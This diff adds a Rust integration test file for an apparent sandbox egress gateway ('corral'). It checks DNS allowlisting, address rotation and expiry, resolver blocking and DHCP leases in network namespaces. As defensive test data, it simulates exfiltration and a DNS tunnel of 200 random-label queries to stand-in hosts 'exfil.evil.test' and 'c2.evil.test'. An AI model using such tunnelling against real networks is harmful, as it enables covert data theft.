@@ -1,0 +1,348 @@
+//! Gateway services with real packets: the netns topology, corral's rules
+//! applied by `Host`, one real dnsmasq per bridge started by `Gateway`, and
+//! a test upstream resolver in the "internet" namespace whose query log
+//! proves what left the host.
+//!
+//! Addresses the resolver hands out are in 198.18.0.0/15: dnsmasq's
+//! `stop-dns-rebind` (which corral turns on) strips the private *and* the
+//! documentation ranges (192.0.2/24, 198.51.100/24, 203.0.113/24).
+
+use std::net::{IpAddr, Ipv4Addr, SocketAddr};
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use corral_egress::gateway::probe::query;
+use corral_egress::gateway::test_upstream::TestUpstream;
+use corral_egress::gateway::wire::{RCODE_NXDOMAIN, TYPE_A, TYPE_TXT};
+use corral_egress::gateway::{DnsTiming, Gateway, GatewaySpec, GatewayStatus};
+use corral_egress::host::Host;
+use corral_egress::netns::topology::{LAN_HOST_V4, LAN_PORT, PUBLIC_RESOLVER_V4};
+use corral_egress::netns::{Netns, Observed, Probe, Topology, Transport, probe_from, require_root};
+use corral_egress::plan::{HostPlan, PlanSettings};
+use corral_egress::resolve::Resolution;
+use corral_sandbox_core::{
+    BlockAction, BridgeName, DnsPolicy, EgressMode, HostName, Profile, ProfileName, ProfileSet,
+};
+
+const UPSTREAM: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 53);
+const STATIC_ADDR: Ipv4Addr = Ipv4Addr::new(198, 18, 1, 1);
+const ROTATED_ADDR: Ipv4Addr = Ipv4Addr::new(198, 18, 1, 2);
+const CDN_ADDR: Ipv4Addr = Ipv4Addr::new(198, 18, 2, 1);
+const PORT: u16 = 443;
+const T: Duration = Duration::from_millis(1500);
+
+fn profile(name: &str, bridge: &str, subnet: &str, mode: EgressMode, allow: &[&str]) -> Profile {
+    Profile {
+        name: ProfileName::new(name).unwrap(),
+        bridge: BridgeName::new(bridge).unwrap(),
+        subnet_v4: subnet.parse().unwrap(),
+        subnet_v6: None,
+        mode,
+        allow: allow.iter().map(|a| a.parse().unwrap()).collect(),
+        block: BlockAction::Reject,
+        dns: DnsPolicy::Gateway,
+        allow_unresolved: true,
+    }
+}
+
+/// Stops the daemons when the test ends, even on a panic: a dnsmasq left
+/// running would keep the host namespace alive.
+struct Daemons(Vec<Gateway>);
+
+impl Drop for Daemons {
+    fn drop(&mut self) {
+        for gw in &self.0 {
+            let _ = gw.stop();
+        }
+    }
+}
+
+struct Env {
+    topo: Topology,
+    upstream: TestUpstream,
+    profiles: ProfileSet,
+    gateways: Daemons,
+    _state: tempfile::TempDir,
+}
+
+/// Builds the topology, applies corral's rules, starts one gateway per
+/// profile, with the upstream answering `api.corral.test` → STATIC_ADDR
+/// (also the apply-time resolution).
+fn env(profiles: Vec<Profile>, timing: DnsTiming) -> Env {
+    let profiles = ProfileSet::new(profiles).unwrap();
+    let topo = Topology::build(&profiles).unwrap();
+    // Addresses the upstream may hand out, each with an echo listener.
+    for ip in [UPSTREAM, STATIC_ADDR, ROTATED_ADDR, CDN_ADDR] {
+        topo.add_internet_listener(IpAddr::V4(ip), PORT, Transport::Tcp).unwrap();
+    }
+    let upstream = topo
+        .internet
+        .run(|| TestUpstream::bind(SocketAddr::new(UPSTREAM.into(), 53)))
+        .unwrap()
+        .unwrap();
+    upstream.set("api.corral.test", &[STATIC_ADDR.into()], 3600);
+
+    let mut resolution = Resolution::new();
+    resolution.insert(&HostName::new("api.corral.test").unwrap(), [IpAddr::V4(STATIC_ADDR)]);
+    let settings = PlanSettings::default();
+    let plan = HostPlan::build(&profiles, &settings, &resolution).unwrap();
+    Host::in_netns(topo.host.try_clone().unwrap()).apply(&plan).unwrap();
+    topo.attach_sandboxes(true).unwrap();
+
+    let state = tempfile::tempdir().unwrap();
+    let mut gateways = Daemons(Vec::new());
+    for p in &profiles {
+        let spec =
+            GatewaySpec::from_profile(p, &[SocketAddr::new(UPSTREAM.into(), 53)], timing).unwrap();
+        let gw = Gateway::new(state.path(), &p.bridge);
+        gw.start_in(&spec, &topo.host).unwrap();
+        gateways.0.push(gw);
+    }
+    Env {
+        topo,
+        upstream,
+        profiles,
+        gateways,
+        _state: state,
+    }
+}
+
+fn tcp(ns: &Netns, ip: Ipv4Addr) -> Observed {
+    probe_from(ns, &Probe::Tcp { to: SocketAddr::new(ip.into(), PORT) }, T).observed
+}
+
+fn ask(ns: &Netns, server: Ipv4Addr, name: &str, qtype: u16) -> Result<corral_egress::gateway::wire::Response, String> {
+    ns.run(|| query(SocketAddr::new(server.into(), 53), name, qtype, T))
+        .map_err(|e| e.to_string())?
+        .map_err(|e| e.to_string())
+}
+
+fn allowlist_profile() -> Profile {
+    profile(
+        "agent",
+        "cb-agent",
+        "10.99.7.0/24",
+        EgressMode::Allowlist,
+        &["api.corral.test", "*.cdn.corral.test"],
+    )
+}
+
+#[test]
+fn rotation_is_followed_and_expires() {
+    if !require_root("rotation_is_followed_and_expires") {
+        return;
+    }
+    let timing = DnsTiming {
+        client_ttl_cap: Duration::from_secs(1),
+        set_timeout: Duration::from_secs(3),
+    };
+    let env = env(vec![allowlist_profile()], timing);
+    let sb = env.topo.sandbox("agent").unwrap();
+    let gw = sb.gateway_v4;
+
+    // The apply-time address is reachable through the static set.
+    assert_eq!(tcp(&sb.ns, STATIC_ADDR), Observed::Connected);
+
+    // The CDN rotates after apply: the new address stays blocked...
+    env.upstream.set("api.corral.test", &[ROTATED_ADDR.into()], 3600);
+    assert!(tcp(&sb.ns, ROTATED_ADDR).blocked(), "rotated address open before any lookup");
+
+    // ...until the sandbox resolves the name through its gateway.
+    let r = ask(&sb.ns, gw, "api.corral.test", TYPE_A).unwrap();
+    let resolved_at = Instant::now();
+    assert_eq!(r.answers.len(), 1, "{r:?}");
+    assert_eq!(r.answers[0].addr, IpAddr::V4(ROTATED_ADDR));
+    assert!(r.answers[0].ttl <= 1, "TTL not capped: {r:?}");
+    assert_eq!(tcp(&sb.ns, ROTATED_ADDR), Observed::Connected, "no re-apply needed");
+    // The fallback is untouched.
+    assert_eq!(tcp(&sb.ns, STATIC_ADDR), Observed::Connected);
+
+    // Wildcard entries follow the same path.
+    env.upstream.set("img.cdn.corral.test", &[CDN_ADDR.into()], 60);
+    assert!(tcp(&sb.ns, CDN_ADDR).blocked());
+    let r = ask(&sb.ns, gw, "img.cdn.corral.test", TYPE_A).unwrap();
+    assert_eq!(r.answers.len(), 1, "{r:?}");
+    assert_eq!(tcp(&sb.ns, CDN_ADDR), Observed::Connected);
+
+    // Once the set timeout has passed, the address is blocked again.
+    let wait = timing.set_timeout + Duration::from_millis(500);
+    std::thread::sleep(wait.saturating_sub(resolved_at.elapsed()));
+    assert!(
+        tcp(&sb.ns, ROTATED_ADDR).blocked(),
+        "rotated address still open {:?} after it was resolved",
+        resolved_at.elapsed()
+    );
+    assert_eq!(tcp(&sb.ns, STATIC_ADDR), Observed::Connected);
+}
+
+#[test]
+fn unlisted_names_never_leave_the_host() {
+    if !require_root("unlisted_names_never_leave_the_host") {
+        return;
+    }
+    let env = env(vec![allowlist_profile()], DnsTiming::default());
+    let sb = env.topo.sandbox("agent").unwrap();
+    let gw = sb.gateway_v4;
+    env.upstream.set("exfil.evil.test", &[ROTATED_ADDR.into()], 60);
+    env.upstream.set("cdn.corral.test", &[ROTATED_ADDR.into()], 60);
+    env.upstream.set("x.api.corral.test", &[ROTATED_ADDR.into()], 60);
+
+    for name in ["exfil.evil.test", "cdn.corral.test", "x.api.corral.test", "intranet"] {
+        let r = ask(&sb.ns, gw, name, TYPE_A).unwrap();
+        assert_eq!(r.rcode, RCODE_NXDOMAIN, "{name}: {r:?}");
+        assert!(r.answers.is_empty());
+    }
+
+    // A tunnel: many random labels under an unlisted domain, A and TXT.
+    let start = Instant::now();
+    let mut seed = 0x2545_f491_u32;
+    for i in 0..200 {
+        seed ^= seed << 13;
+        seed ^= seed >> 17;
+        seed ^= seed << 5;
+        let name = format!("{seed:08x}{i:04x}.c2.evil.test");
+        let qtype = if i % 2 == 0 { TYPE_A } else { TYPE_TXT };
+        let r = ask(&sb.ns, gw, &name, qtype).unwrap();
+        assert_eq!(r.rcode, RCODE_NXDOMAIN, "{name}: {r:?}");
+    }
+    eprintln!("200 tunnel queries answered NXDOMAIN in {:?}", start.elapsed());
+
+    let leaked: Vec<String> = env
+        .upstream
+        .queried_names()
+        .into_iter()
+        .filter(|n| !n.ends_with("api.corral.test") || n.starts_with("x."))
+        .collect();
+    assert!(leaked.is_empty(), "queries reached the upstream: {leaked:?}");
+    // The path to the upstream works: a listed name does reach it.
+    ask(&sb.ns, gw, "api.corral.test", TYPE_A).unwrap();
+    assert_eq!(env.upstream.queried_names(), vec!["api.corral.test"]);
+}
+
+#[test]
+fn resolvers_other_than_the_gateway_are_blocked() {
+    if !require_root("resolvers_other_than_the_gateway_are_blocked") {
+        return;
+    }
+    let env = env(vec![allowlist_profile()], DnsTiming::default());
+    let sb = env.topo.sandbox("agent").unwrap();
+
+    // Straight to the upstream the gateway itself uses, and to a public one.
+    let direct = ask(&sb.ns, UPSTREAM, "api.corral.test", TYPE_A);
+    assert!(direct.is_err(), "direct query answered: {direct:?}");
+    let public = probe_from(&sb.ns, &Probe::Udp { to: SocketAddr::new(PUBLIC_RESOLVER_V4.into(), 53) }, T);
+    assert!(public.observed.blocked(), "{public:?}");
+    assert!(env.upstream.queries().is_empty(), "{:?}", env.upstream.queries());
+
+    // A private answer for an allowed name is stripped and never allowed.
+    env.upstream.set("lan.cdn.corral.test", &[LAN_HOST_V4.into()], 60);
+    let r = ask(&sb.ns, sb.gateway_v4, "lan.cdn.corral.test", TYPE_A).unwrap();
+    assert!(r.answers.is_empty(), "private answer handed out: {r:?}");
+    let lan = probe_from(&sb.ns, &Probe::Tcp { to: SocketAddr::new(LAN_HOST_V4.into(), LAN_PORT) }, T);
+    assert!(lan.observed.blocked(), "{lan:?}");
+}
+
+/// Runs busybox udhcpc in `ns` on eth0; returns the lines its script logged.
+fn dhcp_lease(ns: &Netns, dir: &Path) -> (Vec<String>, Duration) {
+    let script = dir.join("udhcpc.sh");
+    let log = dir.join("udhcpc.log");
+    std::fs::write(
+        &script,
+        format!(
+            "#!/bin/sh\necho \"$1 ip=$ip router=$router dns=$dns lease=$lease\" >> {}\n",
+            log.display()
+        ),
+    )
+    .unwrap();
+    let mut perm = std::fs::metadata(&script).unwrap().permissions();
+    std::os::unix::fs::PermissionsExt::set_mode(&mut perm, 0o755);
+    std::fs::set_permissions(&script, perm).unwrap();
+    let mut cmd = Command::new("busybox");
+    cmd.args(["udhcpc", "-i", "eth0", "-n", "-q", "-f", "-t", "6", "-T", "1", "-s"])
+        .arg(&script)
+        .stdout(Stdio::null())
+        .stderr(Stdio::null());
+    let start = Instant::now();
+    let status = ns.spawn(cmd).unwrap().wait().unwrap();
+    let took = start.elapsed();
+    assert!(status.success(), "udhcpc got no lease ({status})");
+    let lines = std::fs::read_to_string(&log)
+        .unwrap_or_default()
+        .lines()
+        .filter(|l| l.starts_with("bound"))
+        .map(str::to_owned)
+        .collect();
+    (lines, took)
+}
+
+#[test]
+fn sandboxes_get_leases_on_every_bridge() {
+    if !require_root("sandboxes_get_leases_on_every_bridge") {
+        return;
+    }
+    let env = env(
+        vec![
+            allowlist_profile(),
+            profile("offline", "cb-offline", "10.99.8.0/24", EgressMode::None, &[]),
+        ],
+        DnsTiming::default(),
+    );
+    for gw in &env.gateways.0 {
+        assert!(matches!(gw.status(), GatewayStatus::Running { .. }), "{:?}", gw.status());
+    }
+    for p in &env.profiles {
+        let sb = env.topo.sandbox(p.name.as_str()).unwrap();
+        let dir = tempfile::tempdir().unwrap();
+        let (bound, took) = dhcp_lease(&sb.ns, dir.path());
+        eprintln!("{}: {bound:?} in {took:?}", p.name);
+        assert_eq!(bound.len(), 1, "{bound:?}");
+        let line = &bound[0];
+        let ip: Ipv4Addr = line
+            .split_whitespace()
+            .find_map(|w| w.strip_prefix("ip="))
+            .unwrap()
+            .parse()
+            .unwrap();
+        assert!(p.subnet_v4.contains(&ip) && ip != p.gateway_v4(), "{line}");
+        assert!(line.contains(&format!("router={}", p.gateway_v4())), "{line}");
+        let dns = if p.mode == EgressMode::None {
+            "dns= ".to_owned()
+        } else {
+            format!("dns={} ", p.gateway_v4())
+        };
+        assert!(line.contains(&dns), "{line}");
+    }
+    // A none profile has no resolver at all.
+    let off = env.topo.sandbox("offline").unwrap();
+    assert!(ask(&off.ns, off.gateway_v4, "api.corral.test", TYPE_A).is_err());
+}
+
+#[test]
+fn restart_replaces_the_daemon_and_stop_ends_it() {
+    if !require_root("restart_replaces_the_daemon_and_stop_ends_it") {
+        return;
+    }
+    let env = env(vec![allowlist_profile()], DnsTiming::default());
+    let gw = &env.gateways.0[0];
+    let GatewayStatus::Running { pid: first } = gw.status() else {
+        panic!("not running: {:?}", gw.status());
+    };
+    let p = env.profiles.get("agent").unwrap();
+    let spec =
+        GatewaySpec::from_profile(p, &[SocketAddr::new(UPSTREAM.into(), 53)], DnsTiming::default())
+            .unwrap();
+    let start = Instant::now();
+    let second = gw.start_in(&spec, &env.topo.host).unwrap();
+    eprintln!("gateway restart took {:?}", start.elapsed());
+    assert_ne!(first, second);
+    assert!(!Path::new(&format!("/proc/{first}/cmdline")).exists() || {
+        // Reaped later by init; until then it is a zombie with no cmdline.
+        std::fs::read(format!("/proc/{first}/cmdline")).unwrap_or_default().is_empty()
+    });
+    let sb = env.topo.sandbox("agent").unwrap();
+    assert_eq!(ask(&sb.ns, sb.gateway_v4, "api.corral.test", TYPE_A).unwrap().answers.len(), 1);
+    assert_eq!(gw.stop().unwrap(), Some(second));
+    assert_eq!(gw.status(), GatewayStatus::Stopped);
+    assert!(ask(&sb.ns, sb.gateway_v4, "api.corral.test", TYPE_A).is_err());
+}
